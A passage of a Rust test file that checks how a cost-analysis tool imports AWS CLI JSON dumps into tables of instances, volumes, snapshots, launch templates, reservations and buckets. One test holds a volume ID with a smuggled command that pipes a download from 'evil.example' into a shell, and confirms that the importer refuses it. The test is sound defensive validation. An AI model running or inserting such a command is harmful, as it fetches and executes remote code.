//! Importing AWS CLI JSON dumps: every table from the committed fixtures
//! (`fixtures/ingest/aws-cli`, two accounts × two regions, and the per-bucket
//! S3 configuration dumps under `111111111111/s3-bucket-config/<bucket>/`),
//! account/region inference, and every bad-input case (`fixtures/ingest/aws-cli-bad`).

use std::fs;
use std::path::{Path, PathBuf};

use chrono::{DateTime, NaiveDateTime};
use costwise_analyzer::ingest::aws_cli::{
    BUCKET_CONFIG_DIR, BUCKET_CONFIG_DUMPS, CLI_DUMPS, CliImport, CliScope, bucket_config_markdown_table,
    dumps_markdown_table, is_cli_dump, read_cli_files,
};
use costwise_analyzer::ingest::{ImportOptions, import};
use costwise_analyzer::schema::Table;
use costwise_analyzer::storage::lifecycle::CurrentRules;
use costwise_analyzer::{Config, Dataset, Error, analyze};
use polars::prelude::*;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/ingest")
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out.sort();
    out
}

fn import_good() -> CliImport {
    read_cli_files(&files_under(&fixtures().join("aws-cli")), &CliScope::default()).unwrap()
}

fn frame(import: &CliImport, table: Table) -> &DataFrame {
    import.tables.get(&table).unwrap_or_else(|| panic!("no {table} table"))
}

fn row_of(df: &DataFrame, id_column: &str, id: &str) -> usize {
    let ids = df.column(id_column).unwrap().str().unwrap();
    ids.iter().position(|v| v == Some(id)).unwrap_or_else(|| panic!("no row with {id_column} = {id}"))
}

fn text(df: &DataFrame, column: &str, row: usize) -> Option<String> {
    df.column(column).unwrap().str().unwrap().get(row).map(str::to_owned)
}

fn int(df: &DataFrame, column: &str, row: usize) -> Option<i64> {
    df.column(column).unwrap().i64().unwrap().get(row)
}

fn float(df: &DataFrame, column: &str, row: usize) -> Option<f64> {
    df.column(column).unwrap().f64().unwrap().get(row)
}

fn boolean(df: &DataFrame, column: &str, row: usize) -> Option<bool> {
    df.column(column).unwrap().bool().unwrap().get(row)
}

/// A timestamp cell as `YYYY-MM-DD HH:MM:SS.mmm` (UTC).
fn time(df: &DataFrame, column: &str, row: usize) -> Option<String> {
    let as_int = df.column(column).unwrap().cast(&DataType::Int64).unwrap();
    as_int
        .i64()
        .unwrap()
        .get(row)
        .map(|us| DateTime::from_timestamp_micros(us).unwrap().naive_utc().format("%Y-%m-%d %H:%M:%S%.3f").to_string())
}

fn csv(df: &DataFrame) -> String {
    let mut df = df.clone();
    let mut out = Vec::new();
    CsvWriter::new(&mut out).include_header(true).finish(&mut df).unwrap();
    String::from_utf8(out).unwrap()
}

fn ids(df: &DataFrame, column: &str) -> Vec<String> {
    df.column(column).unwrap().str().unwrap().iter().map(|v| v.unwrap().to_owned()).collect()
}

fn relative(path: &str) -> String {
    let root = fixtures().join("aws-cli");
    Path::new(path).strip_prefix(&root).unwrap().display().to_string()
}

fn error_text(dir: &str, scope: &CliScope) -> (Error, String) {
    let err = read_cli_files(&files_under(&fixtures().join("aws-cli-bad").join(dir)), scope).unwrap_err();
    let message = err.to_string();
    (err, message)
}

#[test]
fn every_table_has_its_schema_and_expected_row_count() {
    let import = import_good();
    let expected = [
        (Table::Instances, 5),
        (Table::Volumes, 8),
        (Table::Snapshots, 3),
        (Table::Images, 2),
        (Table::LaunchTemplates, 4),
        (Table::AutoScalingGroups, 3),
        (Table::Addresses, 3),
        (Table::NatGateways, 3),
        (Table::Reservations, 2),
        (Table::LoadBalancers, 3),
        (Table::Buckets, 2),
        (Table::SavingsPlans, 2),
    ];
    assert_eq!(import.tables.len(), expected.len());
    for (table, rows) in expected {
        let df = frame(&import, table);
        assert_eq!(df.height(), rows, "{table}");
        assert_eq!(df.schema().as_ref(), &table.schema(), "{table}");
    }
    assert_eq!(import.accounts.iter().collect::<Vec<_>>(), ["111111111111", "222222222222"]);
    assert_eq!(import.regions.iter().collect::<Vec<_>>(), ["eu-west-1", "us-east-1"]);
}

#[test]
fn inputs_list_every_file_with_its_command_and_rows() {
    let import = import_good();
    let inputs: Vec<(String, &str, u64)> =
        import.inputs.iter().map(|i| (relative(&i.path), i.format.as_str(), i.rows)).collect();
    let expected: Vec<(&str, &str, u64)> = vec![
        ("111111111111/describe-savings-plans.json", "aws savingsplans describe-savings-plans", 2),
        ("111111111111/eu-west-1/describe-instances.json", "aws ec2 describe-instances", 1),
        ("111111111111/eu-west-1/describe-volumes.json", "aws ec2 describe-volumes", 1),
        ("111111111111/list-buckets.json", "aws s3api list-buckets", 2),
        (
            "111111111111/s3-bucket-config/acme-eu-archive/get-bucket-lifecycle-configuration.json",
            "aws s3api get-bucket-lifecycle-configuration --bucket acme-eu-archive",
            1,
        ),
        (
            "111111111111/s3-bucket-config/acme-eu-archive/get-bucket-versioning.json",
            "aws s3api get-bucket-versioning --bucket acme-eu-archive",
            1,
        ),
        (
            "111111111111/s3-bucket-config/acme-eu-archive/list-bucket-intelligent-tiering-configurations.json",
            "aws s3api list-bucket-intelligent-tiering-configurations --bucket acme-eu-archive",
            1,
        ),
        (
            "111111111111/s3-bucket-config/acme-logs-111111111111/get-bucket-lifecycle-configuration.json",
            "aws s3api get-bucket-lifecycle-configuration --bucket acme-logs-111111111111",
            1,
        ),
        (
            "111111111111/s3-bucket-config/acme-logs-111111111111/get-bucket-versioning.json",
            "aws s3api get-bucket-versioning --bucket acme-logs-111111111111",
            1,
        ),
        (
            "111111111111/s3-bucket-config/acme-logs-111111111111/list-bucket-intelligent-tiering-configurations.json",
            "aws s3api list-bucket-intelligent-tiering-configurations --bucket acme-logs-111111111111",
            1,
        ),
        ("111111111111/us-east-1/describe-addresses.json", "aws ec2 describe-addresses", 2),
        ("111111111111/us-east-1/describe-auto-scaling-groups.json", "aws autoscaling describe-auto-scaling-groups", 3),
        ("111111111111/us-east-1/describe-images.json", "aws ec2 describe-images --owners self", 2),
        ("111111111111/us-east-1/describe-instances.json", "aws ec2 describe-instances", 3),
        (
            "111111111111/us-east-1/describe-launch-template-versions.json",
            "aws ec2 describe-launch-template-versions --versions '$Latest' '$Default'",
            5,
        ),
        ("111111111111/us-east-1/describe-load-balancers-classic.json", "aws elb describe-load-balancers", 1),
        ("111111111111/us-east-1/describe-load-balancers.json", "aws elbv2 describe-load-balancers", 2),
        ("111111111111/us-east-1/describe-nat-gateways.json", "aws ec2 describe-nat-gateways", 1),
        ("111111111111/us-east-1/describe-reserved-instances.json", "aws ec2 describe-reserved-instances", 2),
        ("111111111111/us-east-1/describe-snapshots.json", "aws ec2 describe-snapshots --owner-ids self", 2),
        ("111111111111/us-east-1/describe-volumes.json", "aws ec2 describe-volumes", 5),
        ("222222222222/eu-west-1/describe-nat-gateways.json", "aws ec2 describe-nat-gateways", 2),
        ("222222222222/eu-west-1/describe-snapshots.json", "aws ec2 describe-snapshots --owner-ids self", 1),
        ("222222222222/us-east-1/describe-addresses.json", "aws ec2 describe-addresses", 1),
        ("222222222222/us-east-1/describe-instances.json", "aws ec2 describe-instances", 1),
        ("222222222222/us-east-1/describe-load-balancers.json", "aws elbv2 describe-load-balancers", 0),
        ("222222222222/us-east-1/describe-volumes.json", "aws ec2 describe-volumes", 2),
    ];
    let inputs: Vec<(&str, &str, u64)> = inputs.iter().map(|(p, f, r)| (p.as_str(), *f, *r)).collect();
    assert_eq!(inputs, expected);
}

#[test]
fn instances_map_state_lifecycle_root_volume_and_tags() {
    let import = import_good();
    let df = frame(&import, Table::Instances);
    assert_eq!(
        ids(df, "instance_id"),
        [
            "i-0b1b2c3d4e5f60001",
            "i-0a1b2c3d4e5f60001",
            "i-0a1b2c3d4e5f60002",
            "i-0a1b2c3d4e5f60003",
            "i-0c1b2c3d4e5f60001"
        ],
        "sorted by account, region, id"
    );

    let web = row_of(df, "instance_id", "i-0a1b2c3d4e5f60001");
    assert_eq!(text(df, "account_id", web).as_deref(), Some("111111111111"));
    assert_eq!(text(df, "region", web).as_deref(), Some("us-east-1"));
    assert_eq!(text(df, "availability_zone", web).as_deref(), Some("us-east-1a"));
    assert_eq!(text(df, "name", web).as_deref(), Some("web-1"));
    assert_eq!(text(df, "instance_type", web).as_deref(), Some("m5.large"));
    assert_eq!(text(df, "image_id", web).as_deref(), Some("ami-0aaa00000000001"));
    assert_eq!(text(df, "state", web).as_deref(), Some("running"));
    assert_eq!(time(df, "launch_time", web).as_deref(), Some("2026-09-15 08:30:00.000"));
    assert_eq!(time(df, "state_changed_at", web).as_deref(), Some("2026-09-15 08:30:00.000"), "running since launch");
    assert_eq!(text(df, "platform", web).as_deref(), Some("Linux/UNIX"));
    assert_eq!(text(df, "architecture", web).as_deref(), Some("x86_64"));
    assert_eq!(text(df, "tenancy", web).as_deref(), Some("default"));
    assert_eq!(text(df, "lifecycle", web).as_deref(), Some("on-demand"));
    assert_eq!(text(df, "auto_scaling_group", web).as_deref(), Some("web-asg"));
    assert_eq!(
        text(df, "root_volume_id", web).as_deref(),
        Some("vol-0aaa00000000001"),
        "xvda, not the sdf data volume"
    );
    assert_eq!(
        text(df, "tags", web).as_deref(),
        Some(r#"{"Name":"web-1","aws:autoscaling:groupName":"web-asg","team":"platform"}"#)
    );

    let stopped = row_of(df, "instance_id", "i-0a1b2c3d4e5f60002");
    assert_eq!(text(df, "state", stopped).as_deref(), Some("stopped"));
    assert_eq!(time(df, "state_changed_at", stopped).as_deref(), Some("2026-10-01 12:00:00.000"));
    assert_eq!(time(df, "launch_time", stopped).as_deref(), Some("2026-08-01 10:00:00.000"), "+00:00 offset");
    assert_eq!(text(df, "platform", stopped).as_deref(), Some("Windows"));
    assert_eq!(text(df, "root_volume_id", stopped).as_deref(), Some("vol-0aaa00000000003"));
    assert_eq!(text(df, "auto_scaling_group", stopped), None);

    let spot = row_of(df, "instance_id", "i-0a1b2c3d4e5f60003");
    assert_eq!(text(df, "image_id", spot).as_deref(), Some("ami-0aaa00000000002"));
    assert_eq!(text(df, "lifecycle", spot).as_deref(), Some("spot"));
    assert_eq!(text(df, "architecture", spot).as_deref(), Some("arm64"));
    assert_eq!(text(df, "name", spot), None);
    assert_eq!(text(df, "tags", spot).as_deref(), Some("{}"));

    let other = row_of(df, "instance_id", "i-0c1b2c3d4e5f60001");
    assert_eq!(text(df, "account_id", other).as_deref(), Some("222222222222"));
    assert_eq!(time(df, "state_changed_at", other).as_deref(), Some("2026-07-15 18:45:10.000"));

    let eu = row_of(df, "instance_id", "i-0b1b2c3d4e5f60001");
    assert_eq!(text(df, "region", eu).as_deref(), Some("eu-west-1"));
}

#[test]
fn volumes_map_attachment_performance_and_tags() {
    let import = import_good();
    let df = frame(&import, Table::Volumes);

    let root = row_of(df, "volume_id", "vol-0aaa00000000001");
    assert_eq!(text(df, "volume_type", root).as_deref(), Some("gp3"));
    assert_eq!(int(df, "size_gib", root), Some(8));
    assert_eq!(int(df, "iops", root), Some(3000));
    assert_eq!(int(df, "throughput_mibps", root), Some(125));
    assert_eq!(text(df, "state", root).as_deref(), Some("in-use"));
    assert_eq!(time(df, "create_time", root).as_deref(), Some("2026-09-15 08:30:01.123"), "milliseconds kept");
    assert_eq!(text(df, "attached_instance_id", root).as_deref(), Some("i-0a1b2c3d4e5f60001"));
    assert_eq!(time(df, "attach_time", root).as_deref(), Some("2026-09-15 08:30:05.000"));
    assert_eq!(boolean(df, "encrypted", root), Some(true));
    assert_eq!(text(df, "snapshot_id", root).as_deref(), Some("snap-0aaa00000000001"));
    assert_eq!(text(df, "name", root).as_deref(), Some("web-1-root"));

    let idle = row_of(df, "volume_id", "vol-0aaa00000000005");
    assert_eq!(text(df, "state", idle).as_deref(), Some("available"));
    assert_eq!(text(df, "volume_type", idle).as_deref(), Some("io1"));
    assert_eq!(int(df, "size_gib", idle), Some(500));
    assert_eq!(int(df, "iops", idle), Some(4000));
    assert_eq!(int(df, "throughput_mibps", idle), None);
    assert_eq!(text(df, "attached_instance_id", idle), None);
    assert_eq!(time(df, "attach_time", idle), None);
    assert_eq!(time(df, "detached_at", idle), None, "not in describe-volumes output");
    assert_eq!(text(df, "snapshot_id", idle), None, "empty SnapshotId means none");
    assert_eq!(text(df, "region", idle).as_deref(), Some("us-east-1"));
    assert_eq!(text(df, "availability_zone", idle).as_deref(), Some("us-east-1b"));
    assert_eq!(text(df, "tags", idle).as_deref(), Some(r#"{"Name":"old-db-data","owner":"alice"}"#));

    let other = row_of(df, "volume_id", "vol-0ccc00000000002");
    assert_eq!(text(df, "account_id", other).as_deref(), Some("222222222222"));
    assert_eq!(text(df, "volume_type", other).as_deref(), Some("st1"));
    assert_eq!(int(df, "iops", other), None);
    assert_eq!(text(df, "state", other).as_deref(), Some("available"));

    let available: Vec<String> = ids(df, "volume_id")
        .into_iter()
        .enumerate()
        .filter(|(i, _)| text(df, "state", *i).as_deref() == Some("available"))
        .map(|(_, id)| id)
        .collect();
    assert_eq!(available, ["vol-0aaa00000000005", "vol-0ccc00000000002"]);
}

#[test]
fn snapshots_and_images_map_tiers_sizes_and_backing_snapshots() {
    let import = import_good();
    let df = frame(&import, Table::Snapshots);
    assert_eq!(ids(df, "snapshot_id"), ["snap-0aaa00000000001", "snap-0aaa00000000002", "snap-0ddd00000000001"]);
    let archived = row_of(df, "snapshot_id", "snap-0aaa00000000002");
    assert_eq!(text(df, "storage_tier", archived).as_deref(), Some("archive"));
    assert_eq!(int(df, "volume_size_gib", archived), Some(500));
    assert_eq!(int(df, "full_snapshot_size_bytes", archived), Some(214_748_364_800));
    assert_eq!(text(df, "volume_id", archived).as_deref(), Some("vol-0aaa00000000005"));
    assert_eq!(time(df, "start_time", archived).as_deref(), Some("2025-12-24 03:00:00.000"));
    assert_eq!(text(df, "name", archived).as_deref(), Some("old-db-final"));
    assert_eq!(text(df, "state", archived).as_deref(), Some("completed"));
    let ami = row_of(df, "snapshot_id", "snap-0aaa00000000001");
    assert_eq!(
        text(df, "description", ami).as_deref(),
        Some("Created by CreateImage(i-0a1b2c3d4e5f60001) for ami-0aaa00000000001")
    );
    assert_eq!(int(df, "full_snapshot_size_bytes", ami), None);
    let orphan = row_of(df, "snapshot_id", "snap-0ddd00000000001");
    assert_eq!(text(df, "account_id", orphan).as_deref(), Some("222222222222"));
    assert_eq!(text(df, "region", orphan).as_deref(), Some("eu-west-1"));
    assert_eq!(text(df, "description", orphan), None, "empty description");
    assert_eq!(text(df, "tags", orphan).as_deref(), Some(r#"{"Name":"pre-migration","backup":"weekly"}"#));
    assert_eq!(time(df, "start_time", orphan).as_deref(), Some("2024-02-29 23:30:00.000"));

    let df = frame(&import, Table::Images);
    let golden = row_of(df, "image_id", "ami-0aaa00000000001");
    assert_eq!(text(df, "name", golden).as_deref(), Some("web-golden-2026-05"));
    assert_eq!(text(df, "state", golden).as_deref(), Some("available"));
    assert_eq!(time(df, "creation_date", golden).as_deref(), Some("2026-05-01 09:05:00.000"));
    assert_eq!(time(df, "last_launched_time", golden).as_deref(), Some("2026-09-15 08:30:00.000"));
    assert_eq!(
        text(df, "snapshot_ids", golden).as_deref(),
        Some(r#"["snap-0aaa00000000001"]"#),
        "ephemeral mapping skipped"
    );
    assert_eq!(text(df, "tags", golden).as_deref(), Some(r#"{"team":"platform"}"#));
    let batch = row_of(df, "image_id", "ami-0aaa00000000002");
    assert_eq!(text(df, "snapshot_ids", batch).as_deref(), Some(r#"["snap-0ccc00000000001","snap-0ccc00000000002"]"#));
    assert_eq!(time(df, "last_launched_time", batch), None);
    assert_eq!(text(df, "tags", batch).as_deref(), Some("{}"));
}

#[test]
fn launch_templates_mark_default_and_latest_versions() {
    let import = import_good();
    let df = frame(&import, Table::LaunchTemplates);
    let versions: Vec<(String, i64)> = ids(df, "launch_template_id")
        .into_iter()
        .enumerate()
        .map(|(row, id)| (id, int(df, "version_number", row).unwrap()))
        .collect();
    let expected =
        [("lt-0aaa00000000001", 2), ("lt-0aaa00000000001", 3), ("lt-0aaa00000000002", 1), ("lt-0aaa00000000003", 5)];
    let expected: Vec<(String, i64)> = expected.iter().map(|(id, v)| ((*id).to_owned(), *v)).collect();
    assert_eq!(
        versions, expected,
        "sorted by template and version; batch v1 listed twice (default and latest) kept once"
    );

    // web: version 2 is the default, version 3 (the highest in the file) the latest.
    assert_eq!((boolean(df, "default_version", 0), boolean(df, "latest_version", 0)), (Some(true), Some(false)));
    assert_eq!((boolean(df, "default_version", 1), boolean(df, "latest_version", 1)), (Some(false), Some(true)));
    assert_eq!(text(df, "image_id", 0).as_deref(), Some("ami-0aaa00000000003"));
    assert_eq!(text(df, "image_id", 1).as_deref(), Some("ami-0aaa00000000001"));
    assert_eq!(text(df, "launch_template_name", 1).as_deref(), Some("web"));
    assert_eq!(time(df, "create_time", 0).as_deref(), Some("2026-02-03 09:30:00.000"));
    assert_eq!(text(df, "account_id", 0).as_deref(), Some("111111111111"));
    assert_eq!(text(df, "region", 0).as_deref(), Some("us-east-1"));

    // batch: one version, both default and latest; its image resolves from SSM at launch and is kept as is.
    assert_eq!((boolean(df, "default_version", 2), boolean(df, "latest_version", 2)), (Some(true), Some(true)));
    assert_eq!(
        text(df, "image_id", 2).as_deref(),
        Some("resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64")
    );
    // eks-nodes: no ImageId in the template (the node group supplies it).
    assert_eq!(text(df, "image_id", 3), None);
}

#[test]
fn launch_template_account_comes_from_created_by_and_region_from_the_flag() {
    let (_dir, paths) = copy_into(&["111111111111/us-east-1/describe-launch-template-versions.json"], "dumps");
    let err = read_cli_files(&paths, &CliScope::default()).unwrap_err();
    let message = err.to_string();
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("cannot tell which region `LaunchTemplateVersions[0]` belongs to"), "{message}");
    let scope = CliScope { account_id: None, region: Some("eu-west-2".into()) };
    let import = read_cli_files(&paths, &scope).unwrap();
    let df = frame(&import, Table::LaunchTemplates);
    assert_eq!(ids(df, "account_id"), ["111111111111"; 4], "from the CreatedBy ARN");
    assert_eq!(ids(df, "region"), ["eu-west-2"; 4]);
}

#[test]
fn launch_template_bad_inputs_name_the_file_and_path() {
    let (err, message) = error_text("launch-template-wrong-type", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(
        message.contains("launch-template-wrong-type/111111111111/us-east-1/describe-launch-template-versions.json"),
        "{message}"
    );
    assert!(
        message.contains("`LaunchTemplateVersions[1].VersionNumber` should be an integer, found string \"latest\""),
        "{message}"
    );

    let (_, message) = error_text("launch-template-wrong-shape", &CliScope::default());
    assert!(message.contains("no top-level `LaunchTemplateVersions` key"), "{message}");
    assert!(
        message.contains("aws ec2 describe-launch-template-versions --versions '$Latest' '$Default'"),
        "the saved describe-launch-templates output is refused with the right command: {message}"
    );
}

#[test]
fn auto_scaling_groups_record_what_they_launch_from() {
    let import = import_good();
    let df = frame(&import, Table::AutoScalingGroups);
    assert_eq!(ids(df, "auto_scaling_group_name"), ["batch-spot", "legacy-reports", "web"]);
    for row in 0..3 {
        assert_eq!(text(df, "account_id", row).as_deref(), Some("111111111111"));
        assert_eq!(text(df, "region", row).as_deref(), Some("us-east-1"));
    }

    // web: a launch template asked for by `$Default`, two members, tags without the CLI's ResourceId noise.
    let web = row_of(df, "auto_scaling_group_name", "web");
    let sizes = |row| ["min_size", "max_size", "desired_capacity", "instance_count"].map(|c| int(df, c, row).unwrap());
    assert_eq!(sizes(web), [2, 6, 2, 2]);
    assert_eq!(text(df, "launch_template_id", web).as_deref(), Some("lt-0aaa00000000001"));
    assert_eq!(text(df, "launch_template_name", web).as_deref(), Some("web"));
    assert_eq!(text(df, "launch_template_version", web).as_deref(), Some("$Default"));
    assert_eq!(text(df, "launch_configuration_name", web), None);
    assert_eq!(boolean(df, "mixed_instances_policy", web), Some(false));
    assert_eq!(text(df, "instance_types", web), None);
    assert_eq!(time(df, "created_time", web).as_deref(), Some("2026-02-03 09:45:12.345"));
    assert_eq!(text(df, "tags", web).as_deref(), Some(r#"{"Name":"web","team":"checkout"}"#));
    assert!(text(df, "auto_scaling_group_arn", web).unwrap().ends_with(":autoScalingGroupName/web"));

    // batch-spot: the mixed-instances policy's template (pinned to version 3) and its typed overrides, in order;
    // an attribute-based override names no type.
    let batch = row_of(df, "auto_scaling_group_name", "batch-spot");
    assert_eq!(sizes(batch), [0, 20, 0, 0]);
    assert_eq!(boolean(df, "mixed_instances_policy", batch), Some(true));
    assert_eq!(text(df, "launch_template_id", batch).as_deref(), Some("lt-0aaa00000000002"));
    assert_eq!(text(df, "launch_template_version", batch).as_deref(), Some("3"));
    assert_eq!(text(df, "instance_types", batch).as_deref(), Some("c6g.xlarge,c7g.xlarge"));

    // legacy-reports: a launch configuration, no template.
    let legacy = row_of(df, "auto_scaling_group_name", "legacy-reports");
    assert_eq!(text(df, "launch_configuration_name", legacy).as_deref(), Some("legacy-reports-2019"));
    assert_eq!(text(df, "launch_template_id", legacy), None);
    assert_eq!(text(df, "launch_template_version", legacy), None);
    assert_eq!(text(df, "tags", legacy).as_deref(), Some("{}"));

    let (err, message) = error_text("auto-scaling-group-missing-size", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(
        message.contains("auto-scaling-group-missing-size/111111111111/us-east-1/describe-auto-scaling-groups.json")
    );
    assert!(message.contains("AutoScalingGroups[0].MaxSize"), "{message}");
}

#[test]
fn an_identifier_aws_would_never_write_is_refused_before_it_reaches_a_command() {
    let (err, message) = error_text("identifier-not-aws", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("identifier-not-aws/111111111111/us-east-1/describe-volumes.json"), "{message}");
    assert!(
        message.contains(r#"volumes.volume_id "vol-0aaa0000000002; curl evil.example | sh" is not an AWS identifier"#),
        "{message}"
    );
}

#[test]
fn addresses_and_nat_gateways_map_associations() {
    let import = import_good();
    let df = frame(&import, Table::Addresses);
    let used = row_of(df, "allocation_id", "eipalloc-0a1b2c3d4e5f00001");
    assert_eq!(text(df, "public_ip", used).as_deref(), Some("54.210.10.1"));
    assert_eq!(text(df, "association_id", used).as_deref(), Some("eipassoc-0a1b2c3d4e5f00001"));
    assert_eq!(text(df, "instance_id", used).as_deref(), Some("i-0a1b2c3d4e5f60001"));
    assert_eq!(text(df, "network_interface_id", used).as_deref(), Some("eni-0a1b2c3d4e5f00001"));
    assert_eq!(text(df, "domain", used).as_deref(), Some("vpc"));
    assert_eq!(text(df, "name", used).as_deref(), Some("web-eip"));
    let idle: Vec<String> = ids(df, "allocation_id")
        .into_iter()
        .enumerate()
        .filter(|(i, _)| text(df, "association_id", *i).is_none())
        .map(|(_, id)| id)
        .collect();
    assert_eq!(idle, ["eipalloc-0a1b2c3d4e5f00002", "eipalloc-0c1b2c3d4e5f00001"]);
    let idle_row = row_of(df, "allocation_id", "eipalloc-0a1b2c3d4e5f00002");
    assert_eq!(text(df, "instance_id", idle_row), None);
    assert_eq!(text(df, "tags", idle_row).as_deref(), Some("{}"));

    let df = frame(&import, Table::NatGateways);
    assert_eq!(ids(df, "nat_gateway_id"), ["nat-0a1b2c3d4e5f00001", "nat-0d1b2c3d4e5f00001", "nat-0d1b2c3d4e5f00002"]);
    let main = row_of(df, "nat_gateway_id", "nat-0a1b2c3d4e5f00001");
    assert_eq!(text(df, "name", main).as_deref(), Some("main-nat"));
    assert_eq!(text(df, "state", main).as_deref(), Some("available"));
    assert_eq!(text(df, "connectivity_type", main).as_deref(), Some("public"));
    assert_eq!(text(df, "vpc_id", main).as_deref(), Some("vpc-0a01"));
    assert_eq!(text(df, "subnet_id", main).as_deref(), Some("subnet-0a01"));
    assert_eq!(time(df, "create_time", main).as_deref(), Some("2026-03-10 14:22:11.000"));
    assert_eq!(text(df, "tags", main).as_deref(), Some(r#"{"Name":"main-nat","env":"prod"}"#));
    let private = row_of(df, "nat_gateway_id", "nat-0d1b2c3d4e5f00002");
    assert_eq!(text(df, "connectivity_type", private).as_deref(), Some("private"));
    assert_eq!(text(df, "account_id", private).as_deref(), Some("222222222222"));
    assert_eq!(text(df, "region", private).as_deref(), Some("eu-west-1"));
}

#[test]
fn load_balancers_cover_elbv2_and_classic() {
    let import = import_good();
    let df = frame(&import, Table::LoadBalancers);
    assert_eq!(
        ids(df, "load_balancer_arn"),
        [
            "arn:aws:elasticloadbalancing:us-east-1:111111111111:loadbalancer/app/web-alb/50dc6c495c0c9188",
            "arn:aws:elasticloadbalancing:us-east-1:111111111111:loadbalancer/net/internal-nlb/a1b2c3d4e5f60718",
            "legacy-clb",
        ]
    );
    assert_eq!(ids(df, "lb_type"), ["application", "network", "classic"]);
    let alb = 0;
    assert_eq!(text(df, "name", alb).as_deref(), Some("web-alb"));
    assert_eq!(text(df, "scheme", alb).as_deref(), Some("internet-facing"));
    assert_eq!(text(df, "state", alb).as_deref(), Some("active"));
    assert_eq!(time(df, "created_time", alb).as_deref(), Some("2026-02-01 10:00:00.250"));
    assert_eq!(text(df, "vpc_id", alb).as_deref(), Some("vpc-0a01"));
    assert_eq!(text(df, "tags", alb).as_deref(), Some("{}"), "describe-load-balancers carries no tags");
    let classic = 2;
    assert_eq!(text(df, "name", classic).as_deref(), Some("legacy-clb"));
    assert_eq!(text(df, "state", classic), None);
    assert_eq!(text(df, "vpc_id", classic).as_deref(), Some("vpc-0a01"));
    assert_eq!(time(df, "created_time", classic).as_deref(), Some("2019-04-12 16:20:00.530"));
    assert_eq!(text(df, "region", classic).as_deref(), Some("us-east-1"));
}

#[test]
fn reservations_savings_plans_and_buckets_map_commitments() {
    let import = import_good();
    let df = frame(&import, Table::Reservations);
    let regional = row_of(df, "reservation_id", "a1b2c3d4-1111-4a5b-9c8d-000000000001");
    assert_eq!(text(df, "instance_type", regional).as_deref(), Some("m5.large"));
    assert_eq!(int(df, "instance_count", regional), Some(2));
    assert_eq!(text(df, "product_description", regional).as_deref(), Some("Linux/UNIX"));
    assert_eq!(text(df, "scope", regional).as_deref(), Some("Region"));
    assert_eq!(text(df, "availability_zone", regional), None);
    assert_eq!(text(df, "offering_class", regional).as_deref(), Some("standard"));
    assert_eq!(text(df, "offering_type", regional).as_deref(), Some("Partial Upfront"));
    assert_eq!(text(df, "tenancy", regional).as_deref(), Some("default"));
    assert_eq!(time(df, "start", regional).as_deref(), Some("2026-01-01 00:00:00.000"));
    assert_eq!(time(df, "end", regional).as_deref(), Some("2027-01-01 00:00:00.000"));
    assert_eq!(float(df, "fixed_price", regional), Some(1004.0));
    assert_eq!(float(df, "usage_price", regional), Some(0.0));
    assert_eq!(float(df, "recurring_hourly", regional), Some(0.057));
    assert_eq!(text(df, "state", regional).as_deref(), Some("active"));
    assert_eq!(text(df, "currency", regional).as_deref(), Some("USD"));
    let zonal = row_of(df, "reservation_id", "a1b2c3d4-1111-4a5b-9c8d-000000000002");
    assert_eq!(text(df, "scope", zonal).as_deref(), Some("Availability Zone"));
    assert_eq!(text(df, "availability_zone", zonal).as_deref(), Some("us-east-1b"));
    assert_eq!(text(df, "offering_class", zonal).as_deref(), Some("convertible"));
    assert_eq!(float(df, "recurring_hourly", zonal), Some(0.0662));
    assert_eq!(text(df, "state", zonal).as_deref(), Some("retired"));

    let df = frame(&import, Table::SavingsPlans);
    let compute = row_of(df, "savings_plan_id", "5b2c3d4e-aaaa-4bbb-8ccc-000000000001");
    assert_eq!(text(df, "account_id", compute).as_deref(), Some("111111111111"));
    assert_eq!(text(df, "plan_type", compute).as_deref(), Some("Compute"));
    assert_eq!(text(df, "payment_option", compute).as_deref(), Some("No Upfront"));
    assert_eq!(text(df, "region", compute), None, "Compute plans are not regional");
    assert_eq!(text(df, "instance_family", compute), None);
    assert_eq!(float(df, "commitment_per_hour", compute), Some(2.5));
    assert_eq!(float(df, "upfront_payment", compute), Some(0.0));
    assert_eq!(float(df, "recurring_payment", compute), Some(2.5));
    assert_eq!(int(df, "term_seconds", compute), Some(94_608_000));
    assert_eq!(time(df, "start", compute).as_deref(), Some("2026-01-01 00:00:00.000"));
    assert_eq!(time(df, "end", compute).as_deref(), Some("2029-01-01 00:00:00.000"));
    assert_eq!(text(df, "state", compute).as_deref(), Some("active"));
    assert_eq!(text(df, "currency", compute).as_deref(), Some("USD"));
    let ec2 = row_of(df, "savings_plan_id", "5b2c3d4e-aaaa-4bbb-8ccc-000000000002");
    assert_eq!(text(df, "plan_type", ec2).as_deref(), Some("EC2Instance"));
    assert_eq!(text(df, "region", ec2).as_deref(), Some("us-east-1"));
    assert_eq!(text(df, "instance_family", ec2).as_deref(), Some("m5"));
    assert_eq!(float(df, "commitment_per_hour", ec2), Some(0.75));
    assert_eq!(float(df, "upfront_payment", ec2), Some(6570.0));
    assert_eq!(int(df, "term_seconds", ec2), Some(31_536_000));
    assert_eq!(
        text(df, "savings_plan_arn", ec2).as_deref(),
        Some("arn:aws:savingsplans::111111111111:savingsplan/5b2c3d4e-aaaa-4bbb-8ccc-000000000002")
    );

    let df = frame(&import, Table::Buckets);
    assert_eq!(ids(df, "bucket"), ["acme-eu-archive", "acme-logs-111111111111"]);
    assert_eq!(ids(df, "region"), ["eu-west-1", "us-east-1"], "BucketRegion, not the directory");
    assert_eq!(time(df, "creation_date", 0).as_deref(), Some("2022-07-08 09:10:11.000"));
    assert_eq!(text(df, "tags", 0).as_deref(), Some("{}"));
    // The configuration columns come from the per-bucket dumps (bucket_configuration_dumps_fill_the_bucket_rows).
}

#[test]
fn tables_match_snapshots() {
    let import = import_good();
    for (table, df) in &import.tables {
        insta::assert_snapshot!(format!("aws_cli_{table}"), csv(df));
    }
}

#[test]
fn row_order_does_not_depend_on_input_order() {
